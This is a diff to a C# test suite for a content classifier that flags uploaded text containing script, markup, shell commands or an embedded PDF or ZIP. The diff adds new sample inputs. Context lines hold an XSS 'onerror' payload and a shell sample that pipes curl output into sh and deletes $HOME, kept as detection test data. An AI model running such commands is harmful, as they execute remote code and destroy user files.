@@ -16,6 +16,8 @@ public sealed class HostileTextTests
         { "<a href=\"x\">y</a>", "text/html" },
         { "<custom thing=1>", "text/html" },
         { "<?xml version=\"1.0\"?><a/>", "text/xml" },
+        { "<!-- a --> <?xpacket begin='' id='x'?>\n<x:xmpmeta xmlns:x='adobe:ns:meta/'/>", "text/html" },
+        { "<?a><?b?><body>", "text/html" },
         { "<?xml version=\"1.0\"?><svg/>", "image/svg+xml" },
         { "<svg xmlns=\"http://www.w3.org/2000/svg\"/>", "image/svg+xml" },
         { Prose + "<img src=x onerror=\"alert(1)\">", "text/html" },
@@ -85,6 +87,7 @@ public sealed class HostileTextTests
         "@setlocal\r\ndir\r\n",
         "@\"%ComSpec%\" /c dir\r\n",
         "#!\t/bin/sh\n",
+        "@rem It builds all\r\nmake\r\n",
         "%!PS-Adobe-3.0\n",
         "%! hello\nuserdict\n",
         "%!Adobe PostScript\n",
@@ -112,7 +115,11 @@ public sealed class HostileTextTests
         "var a = 1;\nfunction go() {\n  alert(a);\n}\ngo();\n",
         "import os\nimport sys\n\ndef main():\n    print(os.name)\n\nmain()\n",
         "cd /tmp\ncurl -s http://example.org | sh\nrm -rf \"$HOME\"\n",
-        "for f in *; do\n  rm -f \"$f\"\ndone\n");
+        "for f in *; do\n  rm -f \"$f\"\ndone\n",
+        "\"\"\"Words about it,\nin many lines\nthat are prose.\n\"\"\"\n\nfrom os import (\n    getcwd,\n    listdir,\n)\n\n\n@once\ndef files():\n    names = listdir(getcwd())\n    return [n for n in names if n]\n",
+        "/*\n  Words about it,\n  in many lines\n  that are prose.\n*/\nimport {\n  first,\n  second,\n} from \"./lists.js\"\n\nexport default async function go(list) {\n  const one = first(list)\n  await second(one)\n    .then(print)\n  return one\n}\n",
+        "const colours = [\n  'a red one',\n  'a blue one',\n  'a green one',\n];\ncolours.forEach(print);\nprint(colours.length > 2\n  ? 'many of them'\n  : 'few of them');\n",
+        "!function(e){" + string.Concat(Enumerable.Range(0, 60).Select(i => $"e[{i}]=function(){{return e({i})}};")) + "}(this);\n");
 
     [Theory]
     [MemberData(nameof(Markup))]
@@ -185,8 +192,12 @@ public sealed class HostileTextTests
     }
 
     [Fact]
-    public void A_PDF_behind_text_is_a_second_format() =>
+    public void A_PDF_behind_text_is_a_second_format()
+    {
         Judge.Refuses(Encoding.ASCII.GetBytes(Prose + "%PDF-1.4\n1 0 obj\n<<>>\nendobj\n"), Reasons.SecondFormat);
+        Judge.Refuses(Encoding.ASCII.GetBytes(Prose + "%PDF-1.\nobj<<>>\ntrailer\n<</Root<</Pages<<>>>>>>\n"), Reasons.SecondFormat);
+        Judge.Accepts(Encoding.ASCII.GetBytes(Prose + "%PDF-1.4 is its first word, and a trailer is what it lacks.\n"));
+    }
 
     [Fact]
     public void A_ZIP_behind_text_is_a_second_format() =>
